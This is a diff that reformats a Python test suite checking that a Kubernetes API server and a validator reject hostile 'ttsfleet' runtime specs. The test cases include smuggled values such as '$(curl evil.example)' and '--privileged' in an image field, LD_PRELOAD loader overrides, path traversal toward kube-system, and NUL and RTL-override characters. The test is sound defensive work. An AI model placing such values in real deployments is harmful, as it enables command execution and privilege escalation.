@@ -77,14 +77,33 @@ def with_spec(metadata_name: str = "hostile", **changes) -> dict:
 
 PATTERN = "should match"
 HOSTILE = {
-    "env-LD_PRELOAD": (with_spec(**{"runtime.env": [{"name": "LD_PRELOAD", "value": "/x.so"}]}), "loader or interpreter variables"),
-    "env-PYTHONPATH": (with_spec(**{"runtime.env": [{"name": "PYTHONPATH", "value": "/x"}]}), "loader or interpreter variables"),
-    "env-TTSFLEET": (with_spec(**{"runtime.env": [{"name": "TTSFLEET_PORT", "value": "1"}]}), "may not set TTSFLEET_* variables"),
-    "env-NVIDIA": (with_spec(**{"runtime.env": [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}]}), "NVIDIA_VISIBLE_DEVICES=all"),
+    "env-LD_PRELOAD": (
+        with_spec(**{"runtime.env": [{"name": "LD_PRELOAD", "value": "/x.so"}]}),
+        "loader or interpreter variables",
+    ),
+    "env-PYTHONPATH": (
+        with_spec(**{"runtime.env": [{"name": "PYTHONPATH", "value": "/x"}]}),
+        "loader or interpreter variables",
+    ),
+    "env-TTSFLEET": (
+        with_spec(**{"runtime.env": [{"name": "TTSFLEET_PORT", "value": "1"}]}),
+        "may not set TTSFLEET_* variables",
+    ),
+    "env-NVIDIA": (
+        with_spec(**{"runtime.env": [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}]}),
+        "NVIDIA_VISIBLE_DEVICES=all",
+    ),
     "env-A=B": (with_spec(**{"runtime.env": [{"name": "A=B", "value": "x"}]}), PATTERN),
     "env-newline": (with_spec(**{"runtime.env": [{"name": "x\ny", "value": "x"}]}), PATTERN),
     "env-duplicate": (
-        with_spec(**{"runtime.env": [{"name": "HF_TOKEN", "value": "a"}, {"name": "HF_TOKEN", "value": "b"}]}),
+        with_spec(
+            **{
+                "runtime.env": [
+                    {"name": "HF_TOKEN", "value": "a"},
+                    {"name": "HF_TOKEN", "value": "b"},
+                ]
+            }
+        ),
         "runtime.env names must be unique",
     ),
     "pvc-path-dot-dot": (
@@ -94,20 +113,35 @@ HOSTILE = {
     "hub-dot-dot": (with_spec(**{"model.source": {"hub": "../etc"}}), PATTERN),
     "revision-dot-dot": (with_spec(**{"model.revision": "../../main"}), PATTERN),
     "api-keys-secret-name": (with_spec(**{"runtime.apiKeysSecret": "Not_A/Valid..Name!"}), PATTERN),
-    "service-account-path": (with_spec(**{"runtime.serviceAccountName": "../../kube-system/admin"}), PATTERN),
+    "service-account-path": (
+        with_spec(**{"runtime.serviceAccountName": "../../kube-system/admin"}),
+        PATTERN,
+    ),
     "name-not-dns-1035": (with_spec("tts.dotted"), "DNS-1035 label"),
-    "image-space": (with_spec(**{"runtime.image": "ghcr.io/ttsfleet/runtime:0.1.0 --privileged"}), PATTERN),
+    "image-space": (
+        with_spec(**{"runtime.image": "ghcr.io/ttsfleet/runtime:0.1.0 --privileged"}),
+        PATTERN,
+    ),
     "image-newline": (with_spec(**{"runtime.image": "ghcr.io/ttsfleet/runtime:0.1.0\nx"}), PATTERN),
     "image-command": (with_spec(**{"runtime.image": "$(curl evil.example)"}), PATTERN),
-    "image-rtl-override": (with_spec(**{"runtime.image": "ghcr.io/ttsfleet/runtime:\u202e0.1.0"}), PATTERN),
+    "image-rtl-override": (
+        with_spec(**{"runtime.image": "ghcr.io/ttsfleet/runtime:\u202e0.1.0"}),
+        PATTERN,
+    ),
     "image-nul": (with_spec(**{"runtime.image": "ghcr.io/ttsfleet/runtime\x00:0.1.0"}), PATTERN),
     "replicas-string": (with_spec(replicas="3"), "must be of type integer"),
-    "gpu-count-2": (with_spec(**{"gpu.count": 2}), "gpu.count must be 1: the runtime serves with one GPU"),
+    "gpu-count-2": (
+        with_spec(**{"gpu.count": 2}),
+        "gpu.count must be 1: the runtime serves with one GPU",
+    ),
     "auth-disabled-with-keys": (
         with_spec(**{"runtime.auth": "Disabled", "runtime.apiKeysSecret": "keys"}),
         "apiKeysSecret has no effect with runtime.auth Disabled",
     ),
-    "node-selector-key": (with_spec(**{"spot.nodeSelector": {"bad key!": "x"}}), "spot.nodeSelector keys are label keys"),
+    "node-selector-key": (
+        with_spec(**{"spot.nodeSelector": {"bad key!": "x"}}),
+        "spot.nodeSelector keys are label keys",
+    ),
 }
 
 
@@ -117,7 +151,9 @@ def test_api_server_refuses_hostile_specs_with_a_message(custom_objects, namespa
     accepted, said = server_verdict(custom_objects, namespace, document)
     assert not accepted, f"{case}: accepted by the API server"
     assert message in said, f"{case}: expected {message!r} in:\n{said}"
-    assert python_verdict(document, namespace)[0] is False, f"{case}: accepted by ttsfleet render's model"
+    assert python_verdict(document, namespace)[0] is False, (
+        f"{case}: accepted by ttsfleet render's model"
+    )
 
 
 def test_the_unmodified_base_spec_is_accepted_by_both(custom_objects, namespace):
